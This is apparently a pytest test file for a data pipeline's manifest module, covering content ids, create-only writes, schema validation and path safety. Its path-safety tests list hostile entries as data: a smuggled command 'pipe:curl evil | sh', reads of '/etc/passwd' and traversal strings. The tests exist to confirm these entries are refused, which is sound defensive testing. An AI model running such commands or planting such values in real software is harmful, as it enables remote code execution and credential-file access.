"""Manifests: stable content ids, create-only writes, schema errors naming the field, path safety."""

import json
import os

import pytest

from pipeline import manifest as mf
from pipeline.errors import ManifestError, PathEscapeError
from pipeline.paths import check_entry, resolve_entry

FILES = [{"path": "part-000000.tar", "bytes": 10, "sha256": "a" * 64, "samples": 3}]


def _dataset(params=None, files=FILES):
    return mf.build("dataset", stage="test", params=params or {"labeled": False, "z": 1, "a": [1, 2]},
                    files=files, totals={"samples": 3})


def test_id_is_stable_across_runs_and_key_order():
    first = _dataset({"labeled": False, "z": 1, "a": [1, 2]})
    second = _dataset(dict(reversed(list({"labeled": False, "z": 1, "a": [1, 2]}.items()))))
    assert first["id"] == second["id"]
    assert first["created_at"] and mf.content_id(first) == first["id"]
    assert _dataset({"labeled": False, "z": 2, "a": [1, 2]})["id"] != first["id"]


def test_write_is_create_only_and_load_checks_the_id(tmp_path):
    path = mf.write(_dataset(), tmp_path)
    with pytest.raises(ManifestError, match="already exists"):
        mf.write(_dataset(), tmp_path)
    assert mf.load(path, kind="dataset").id == _dataset()["id"]
    data = json.loads(path.read_text())
    data["totals"]["samples"] = 4
    path.write_text(json.dumps(data))
    with pytest.raises(ManifestError, match="'id' does not match"):
        mf.load(path)


def test_schema_failure_names_the_field(tmp_path):
    data = _dataset()
    data["files"][0]["sha256"] = "nothex"
    (tmp_path / "manifest.json").write_text(json.dumps(data))
    with pytest.raises(ManifestError, match=r"files/0/sha256"):
        mf.load(tmp_path)


def test_unknown_schema_version_is_refused(tmp_path):
    data = _dataset()
    data["schema_version"] = 99
    data["id"] = mf.content_id(data)
    (tmp_path / "manifest.json").write_text(json.dumps(data))
    with pytest.raises(ManifestError, match="schema_version"):
        mf.load(tmp_path)


@pytest.mark.parametrize("entry", ["/etc/passwd", "../x.tar", "a/../../x.tar", "a\x00b", "pipe:curl evil | sh",
                                   "file:///etc/passwd", "ftp://x/y.tar", "a\\..\\b"])
def test_escaping_entries_are_refused(entry):
    with pytest.raises(PathEscapeError):
        check_entry(entry)


@pytest.mark.parametrize("entry", ["part-000000.tar", "sub/part-1.parquet", "s3://bucket/a.tar", "https://h/a.tar"])
def test_safe_entries_pass(entry):
    check_entry(entry)


def test_symlink_leaving_the_folder_is_refused(tmp_path):
    (tmp_path / "outside.tar").write_bytes(b"x")
    inner = tmp_path / "m"
    inner.mkdir()
    os.symlink(tmp_path / "outside.tar", inner / "link.tar")
    with pytest.raises(PathEscapeError, match="outside"):
        resolve_entry(inner, "link.tar")


def test_a_manifest_listing_an_escaping_path_fails_on_load(tmp_path):
    data = _dataset()
    data["files"][0]["path"] = "../../etc/passwd"
    data["id"] = mf.content_id(data)
    (tmp_path / "manifest.json").write_text(json.dumps(data))
    with pytest.raises(PathEscapeError, match="'..'"):
        mf.load(tmp_path)
